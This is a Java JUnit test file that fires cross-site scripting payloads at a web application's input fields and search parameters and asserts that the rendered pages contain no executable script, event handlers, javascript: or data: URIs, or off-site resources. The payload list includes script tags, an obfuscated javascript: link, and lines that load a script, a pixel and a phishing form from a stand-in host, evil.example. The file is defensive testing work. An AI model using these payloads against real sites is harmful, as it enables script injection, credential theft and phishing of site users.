package be.goesting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import be.goesting.Routes.Kind;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Scripts in what is typed and asked: they are words. */
class TypedScriptsTest {

    private static final Attacker ATTACKER = Attacker.of("Wachttoren");

    private static final List<String> SCRIPTS = List.of(
            "<script>alert(1)</script>",
            "\"><script src=//evil.example/x.js></script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "[kijk](javascript:alert(1))",
            "[kijk](data:text/html;base64,PHNjcmlwdD4=)",
            "<a href=\"jav&#x61;script:alert(1)\">kijk</a>",
            "' onmouseover='alert(1)' x='",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "</textarea><script>alert(1)</script>",
            "![x](https://evil.example/pixel.png)",
            "<form action=https://evil.example><button>Meld je aan</button></form>");

    @ParameterizedTest
    @MethodSource
    void whatIsTypedRunsInNobodysBrowser(Text text, String payload) {
        String before = UUID.randomUUID().toString().substring(0, 8);
        var answer = text.write(before + " " + payload);
        assertThat(answer.statusCode()).as(answer.body()).isIn(302, 422);
        for (String page : text.pages()) {
            assertNothingRuns(ATTACKER.inside().get(page));
        }
    }

    static Stream<Arguments> whatIsTypedRunsInNobodysBrowser() {
        return Text.all().flatMap(text -> SCRIPTS.stream().map(payload -> arguments(text, payload)));
    }

    @ParameterizedTest
    @MethodSource
    void whatIsAskedIsShownAsText(String address, String payload) {
        assertNothingRuns(ATTACKER.inside().send(HttpRequest.newBuilder().GET(), address + Attacker.encoded(payload)));
    }

    static Stream<Arguments> whatIsAskedIsShownAsText() {
        return Stream.of(
                        "/search?words=",
                        "/people?name=",
                        "/questions?search=",
                        "/administration/people?name=",
                        "/?done=",
                        "/?done=saved&undo=")
                .flatMap(address -> SCRIPTS.stream().map(payload -> arguments(address, payload)));
    }

    /** No script but ours, nothing that listens, no address that runs, nothing fetched from or sent to another site. */
    private static void assertNothingRuns(HttpResponse<String> answer) {
        Document page = Jsoup.parse(answer.body());
        assertThat(page.select("script:not([src^=/assets/]), script[src^=//], iframe, object, embed, base"))
                .isEmpty();
        assertThat(page.getAllElements())
                .allSatisfy(element -> assertThat(element.attributes().asList())
                        .noneMatch(attribute -> attribute.getKey().matches("on[a-z]+"))
                        .noneMatch(attribute -> List.of("href", "src", "action", "formaction", "srcdoc")
                                        .contains(attribute.getKey())
                                && attribute
                                        .getValue()
                                        .strip()
                                        .toLowerCase(Locale.ROOT)
                                        .matches("(?s)(javascript|data|vbscript):.*")));
        assertThat(page.select("form[action^=http], form[action^=//], img[src^=http], link[href^=http]"))
                .isEmpty();
    }

    /** A place where something is typed: how it is written, and where it is read. */
    private record Text(String name, String path, Map<String, String> fields, String field, List<String> pages) {

        static Stream<Text> all() {
            UUID moment = ATTACKER.things().make("moment");
            UUID question = ATTACKER.things().make("question");
            UUID team = ATTACKER.things().make("team");
            UUID colleague = ATTACKER.things().person(Kind.MEMBER);
            String conversation = "/conversations/" + ATTACKER.things().make("conversation");
            return Stream.of(
                    text("/moments", "body", "/moments", "/"),
                    text("/moments/" + moment + "/comments", "body", "/moments/" + moment),
                    text("/questions", "body", "/questions").with("to", "everyone"),
                    text("/questions/" + question + "/answers", "body", "/questions/" + question),
                    text("/questions/" + question + "/comments", "body", "/questions/" + question),
                    text("/needs", "body", "/learning"),
                    text("/goals", "body", "/learning"),
                    text("/intentions", "body", "/", "/intentions"),
                    text("/expertise/statements", "body", "/expertise"),
                    text("/expertise/availability", "note", "/expertise").with("perWeek", "2"),
                    text("/appreciations", "body", "/appreciations", "/appreciations/mine")
                            .with("to", colleague.toString())
                            .with("open", "yes"),
                    text(conversation + "/points", "body", conversation),
                    text(conversation + "/agreements", "body", conversation),
                    text(conversation + "/preparation/shared", "body", conversation),
                    text("/administration/people/" + colleague, "name", "/people", "/people/" + colleague)
                            .with("language", "nl"),
                    text("/administration/people/" + colleague, "job", "/people", "/people/" + colleague)
                            .with("language", "nl")
                            .with("name", "Collega"),
                    text("/administration/teams/" + team, "name", "/teams/" + team, "/administration/teams"),
                    text("/administration/teams/" + team, "site", "/teams/" + team)
                            .with("name", "Ploeg"));
        }

        private static Text text(String path, String field, String... pages) {
            return new Text(path + " " + field, path, Map.of(), field, List.of(pages));
        }

        private Text with(String other, String value) {
            var more = new HashMap<>(fields);
            more.put(other, value);
            return new Text(name, path, more, field, pages);
        }

        HttpResponse<String> write(String words) {
            var all = new ArrayList<>(List.of(field, words));
            fields.forEach((key, value) -> all.addAll(List.of(key, value)));
            return ATTACKER.post(path, all.toArray(String[]::new));
        }

        @Override
        public String toString() {
            return name;
        }
    }
}
